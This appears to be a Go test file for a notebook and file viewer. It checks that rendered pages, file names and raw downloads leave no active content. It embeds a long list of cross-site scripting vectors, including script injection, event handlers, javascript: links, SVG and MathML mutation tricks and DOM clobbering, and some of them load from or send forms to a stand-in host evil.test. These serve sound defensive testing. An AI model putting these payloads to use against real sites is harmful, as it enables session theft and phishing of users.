package viewer

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// vectors are pieces of text that have run script, loaded something, posed as a
// page's own part or broken out of their place, somewhere, some time.
var vectors = []string{
	`<script>beacon()</script>`,
	`<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
	`<img src=x onerror=beacon()>`,
	`<img src=x onerror="beacon()" //`,
	`<svg onload=beacon()>`,
	`<svg><script>beacon()</script></svg>`,
	`<svg><animate onbegin=beacon() attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:beacon()"><text x=9 y=9>go</text></a></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>beacon()</script>"></iframe></foreignObject></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=beacon()>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=beacon()&gt;">`,
	`<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:beacon()">x</maction></math>`,
	`<math href="javascript:beacon()">x</math>`,
	`<a href="javascript:beacon()">x</a>`,
	`<a href=" &#106;avascript:beacon()">x</a>`,
	"<a href=\"java\tscript:beacon()\">x</a>",
	"<a href=\"\x01javascript:beacon()\">x</a>",
	`<a href="JaVaScRiPt&colon;beacon()">x</a>`,
	`<a href="vbscript:beacon()">x</a>`,
	`<a href="data:text/html,<script>beacon()</script>">x</a>`,
	`<a href="//evil.test/">x</a>`,
	`<a href="/p/notebook/api/contents" ping="http://evil.test">x</a>`,
	`<a href="http://evil.test" target="_top" id="content">x</a>`,
	`<iframe src="javascript:beacon()"></iframe>`,
	`<iframe srcdoc="<script>parent.beacon()</script>"></iframe>`,
	`<object data="data:text/html,<script>beacon()</script>"></object>`,
	`<embed src="javascript:beacon()">`,
	`<form action="http://evil.test/login"><input name="password" autofocus onfocus=beacon()><button>Sign in</button></form>`,
	`<button formaction="javascript:beacon()">x</button>`,
	`<button data-commandlinker-command="terminal:create-new" data-commandlinker-args='{"x":1}'>Click</button>`,
	`<div data-commandlinker-command="console:create">x</div>`,
	`<isindex action=javascript:beacon() type=submit>`,
	`<meta http-equiv="refresh" content="0;url=javascript:beacon()">`,
	`<base href="http://evil.test/">`,
	`<link rel="stylesheet" href="http://evil.test/x.css">`,
	`<style>*{background:url(http://evil.test/x)}</style>`,
	`<div style="position:fixed;inset:0;background:url(javascript:beacon())">overlay</div>`,
	`<img src="http://evil.test/track.png">`,
	`<img src="//evil.test/track.png" srcset="http://evil.test/2.png 2x">`,
	`<img src="data:image/svg+xml,<svg onload=beacon()>">`,
	`<img src="data:text/html;base64,PHNjcmlwdD5iZWFjb24oKTwvc2NyaXB0Pg==">`,
	`<img name="getElementById" id="body"><form id="document"><input name="attributes"></form>`,
	`<a id="location"></a><a id="location" name="href" href="http://evil.test"></a>`,
	`<h1 id="L1">x</h1><h2 id="find">y</h2>`,
	`<video poster="javascript:beacon()"><source onerror=beacon()></video>`,
	`<audio src=x onerror=beacon()>`,
	`<details open ontoggle=beacon()><summary>x</summary></details>`,
	`<marquee onstart=beacon()>x</marquee>`,
	`<body onload=beacon()>`,
	`<table background="javascript:beacon()"><td background="http://evil.test">x`,
	`<noscript><p title="</noscript><img src=x onerror=beacon()>">`,
	`<template><script>beacon()</script></template>`,
	`<textarea></textarea><img src=x onerror=beacon()>`,
	`<xmp><img src=x onerror=beacon()></xmp>`,
	`<!--><img src=x onerror=beacon()>-->`,
	`<![CDATA[><img src=x onerror=beacon()>]]>`,
	`</code></pre></div></main></body><script>beacon()</script>`,
	`"><img src=x onerror=beacon()>`,
	`'-beacon()-'`,
	`{{constructor.constructor("beacon()")()}}`,
	`</title><script>beacon()</script>`,
	`<p class="math">\href{javascript:beacon()}{x}</p>`,
	`<span class="line marked" id="L7" data-line="7">x</span>`,
	`[x](javascript:beacon())`,
	`![x](javascript:beacon())`,
	`<javascript:beacon()>`,
	`[x]: javascript:beacon()` + "\n\n[x]",
	"```\"><script>beacon()</script>\nx\n```",
	`# x {#content onclick=beacon()}`,
	`$\href{javascript:beacon()}{x}$ $\htmlData{x=y}{z}$ $</span><script>beacon()</script>$`,
	"$$\n</div><img src=x onerror=beacon()>\n$$",
	"\x1b]8;;javascript:beacon()\x1b\\x\x1b]8;;\x1b\\",
	"\x1b]1338;url=http://evil.test/x.png;alt=x\x07",
	"\x1b[31m<img src=x onerror=beacon()>\x1b[0m\r<b>",
	"\x1b[38;5;1\"><script>beacon()</script>m",
	"+ADw-script+AD4-beacon()+ADw-/script+AD4-",
	"<scr\x00ipt>beacon()</scr\x00ipt>",
	"<im\xffg src=x onerror=beacon()>",
}

// hostile is a notebook that has the vector in every place there is.
func hostile(t *testing.T, v string) string {
	t.Helper()
	v = strings.ToValidUTF8(v, "\uFFFD")
	b64 := base64.StdEncoding.EncodeToString([]byte(v))
	outputs := []any{
		map[string]any{"output_type": "stream", "name": v, "text": v},
		map[string]any{"output_type": "stream", "name": "stderr", "text": []string{v, v}},
		map[string]any{"output_type": "error", "ename": v, "evalue": v, "traceback": []string{v}},
		map[string]any{"output_type": "error", "ename": v, "evalue": v},
		map[string]any{"output_type": v, "data": map[string]any{"text/html": v}},
	}
	for _, kind := range []string{"text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png", "image/jpeg", "application/javascript",
		"application/json", "application/vnd.jupyter.widget-view+json", "application/pdf", "text/vnd.mermaid", v} {
		outputs = append(outputs, map[string]any{"output_type": "display_data", "metadata": map[string]any{v: v, kind: map[string]any{"width": v}}, "data": map[string]any{kind: v}})
		outputs = append(outputs, map[string]any{"output_type": "execute_result", "execution_count": v, "data": map[string]any{kind: []string{v}, "text/plain": v}})
	}
	outputs = append(outputs, map[string]any{"output_type": "pyout", "html": v, "text": v, "svg": v})
	cells := []any{}
	for _, kind := range []string{"markdown", "code", "raw", "heading", v} {
		c := map[string]any{"cell_type": kind, "id": v, "source": []string{v}, "metadata": map[string]any{"tags": []string{v}, "format": "text/html", v: v}, "level": v,
			"attachments": map[string]any{"a.png": map[string]any{"image/png": v, "text/html": v, "image/svg+xml": b64}, v: map[string]any{v: v}}}
		if kind == "code" {
			c["outputs"], c["execution_count"] = outputs, v
		}
		if kind == "markdown" {
			c["source"] = []string{v, "\n\n![a](attachment:a.png) ![b](<attachment:" + strings.NewReplacer("<", "", ">", "", "\n", "").Replace(v) + ">)\n"}
		}
		cells = append(cells, c)
	}
	raw, err := json.Marshal(map[string]any{"nbformat": 4, "nbformat_minor": 5, "cells": cells, "metadata": map[string]any{
		"title": v, "kernelspec": map[string]any{"name": v, "display_name": v, "language": v}, "language_info": map[string]any{"name": v, "version": v, "pygments_lexer": v, "mimetype": v, "file_extension": v}}})
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

// Rows V-01 and V-04: nothing active is left of anything, through any renderer.
func TestNothingActiveIsLeft(t *testing.T) {
	w := newWorld(t)
	var all strings.Builder
	// Every page costs a process. Each vector has a notebook of its own in turn;
	// in Markdown eight share a page, apart from one another by headings.
	const together = 8
	for i, v := range vectors {
		w.put(fmt.Sprintf("n/%d.ipynb", i), hostile(t, v))
		all.WriteString(v + "\n")
	}
	for i, some := range slices.Collect(slices.Chunk(vectors, together)) {
		var md strings.Builder
		for _, v := range some {
			md.WriteString(v + "\n\n# next\n\ntext " + v + "\n\n- " + v + "\n\n| a | b |\n|---|---|\n| " + v + " | x |\n\n")
		}
		w.put(fmt.Sprintf("m/%d.md", i), md.String())
	}
	w.put("all.py", all.String())
	w.put("all.html", all.String())
	w.put("all.svg", "<svg xmlns='http://www.w3.org/2000/svg'>"+all.String())
	w.put("all.csv", "a,b\n"+all.String())
	w.put("all.tsv", "a\tb\n"+all.String())
	w.put("all.txt", all.String())
	w.put("all.ipynb", all.String()) // no notebook at all
	for i := range vectors {
		if i%together == 0 {
			w.page(fmt.Sprintf("/m/%d.md", i/together))
		}
		w.page(fmt.Sprintf("/n/%d.ipynb", i))
	}
	for _, name := range []string{"all.py", "all.html", "all.svg", "all.csv", "all.tsv", "all.txt", "all.ipynb", "all.svg?source=1", "n/0.ipynb?source=1", "m/0.md?source=1"} {
		w.page("/" + name)
	}
}

// The same for the names of files and directories, for patterns, and on the
// pages of errors.
func TestNamesAreText(t *testing.T) {
	w := newWorld(t)
	for i, v := range vectors {
		name := cut(strings.NewReplacer("/", "∕", "\x00", "").Replace(v), 200)
		w.put(fmt.Sprintf("%d/%s.txt", i, name), "x")
		w.put(fmt.Sprintf("%d/%s.d/inner", i, name), "x")
		w.put(fmt.Sprintf("%d/%s.png", i, name), "x")
		at := fmt.Sprintf("/%d/", i)
		w.page(at)
		w.page(at + url.PathEscape(name+".txt"))
		w.page(at + url.PathEscape(name+".png"))
		w.page(at + url.PathEscape(name+".d") + "/")
		w.page(at + "?find=" + url.QueryEscape(cut(v, 200)))
		missing := w.get(at + url.PathEscape(name+".none"))
		if missing.status != http.StatusNotFound {
			t.Errorf("a missing file answers %d", missing.status)
		}
		w.harmless("the page of a missing file", missing)
		raw := w.get(at + url.PathEscape(name+".txt") + "?download=1")
		if d := raw.header["Content-Disposition"]; len(d) != 1 || strings.ContainsAny(d[0], "\r\n") || !strings.HasPrefix(d[0], "attachment") {
			t.Errorf("%q is saved as %q", name, d)
		}
	}
}

// Row V-02.
func TestRawFilesAreInert(t *testing.T) {
	w := newWorld(t)
	page := "<!doctype html><script>beacon()</script>"
	for name, c := range map[string]struct {
		content, kind string
		save          bool
	}{
		"a.html":      {page, "text/plain; charset=utf-8", true},
		"a.HTM":       {page, "text/plain; charset=utf-8", true},
		"a.xhtml":     {"<html xmlns='http://www.w3.org/1999/xhtml'>", "text/plain; charset=utf-8", true},
		"a.svg":       {"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "image/svg+xml", true},
		"a.xml":       {"<?xml version='1.0'?><a/>", "text/plain; charset=utf-8", true},
		"a.js":        {"beacon()", "text/plain; charset=utf-8", true},
		"a.mjs":       {"beacon()", "text/plain; charset=utf-8", true},
		"a.css":       {"*{}", "text/plain; charset=utf-8", true},
		"a.wasm":      {"\x00asm\x01\x00\x00\x00", "application/octet-stream", true},
		"a.pdf":       {"%PDF-1.7 \x00\x01", "application/octet-stream", true},
		"noending":    {"  \n" + page, "text/plain; charset=utf-8", true},
		"late":        {strings.Repeat("x ", 1000) + page, "text/plain; charset=utf-8", true},
		"page.txt":    {page, "text/plain; charset=utf-8", true},
		"a.ipynb":     {`{"cells":[]}`, "text/plain; charset=utf-8", false},
		"a.py":        {"print(1)", "text/plain; charset=utf-8", false},
		"a.txt":       {"hello", "text/plain; charset=utf-8", false},
		"a.png":       {"\x89PNG\r\n\x1a\n\x00", "image/png", false},
		"fake.png":    {page, "image/png", true},
		"a.bin":       {"\x00\x01\x02", "application/octet-stream", true},
		"zip.parquet": {"PAR1\x00", "application/octet-stream", true},
	} {
		w.put(name, c.content)
		a := w.get("/" + name + "?raw=1")
		h := a.header
		if a.status != 200 || a.body != c.content || h.Get("Content-Type") != c.kind {
			t.Errorf("%s: %d, %q", name, a.status, h.Get("Content-Type"))
		}
		if save := strings.HasPrefix(h.Get("Content-Disposition"), "attachment"); save != c.save {
			t.Errorf("%s: %q", name, h.Get("Content-Disposition"))
		}
		if h.Get("Content-Security-Policy") != "sandbox; default-src 'none'" || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cross-Origin-Resource-Policy") != "same-origin" || h.Get("Set-Cookie") != "" {
			t.Errorf("%s: %v", name, h)
		}
		if d := w.get("/" + name + "?download=1"); !strings.HasPrefix(d.header.Get("Content-Disposition"), "attachment") {
			t.Errorf("%s is not saved: %q", name, d.header.Get("Content-Disposition"))
		}
	}
	part := w.ask("GET", "/p/viewer/a.txt?raw=1", "Range: bytes=1-3")
	if part.status != http.StatusPartialContent || part.body != "ell" {
		t.Errorf("a part of a file: %d %q", part.status, part.body)
	}
}
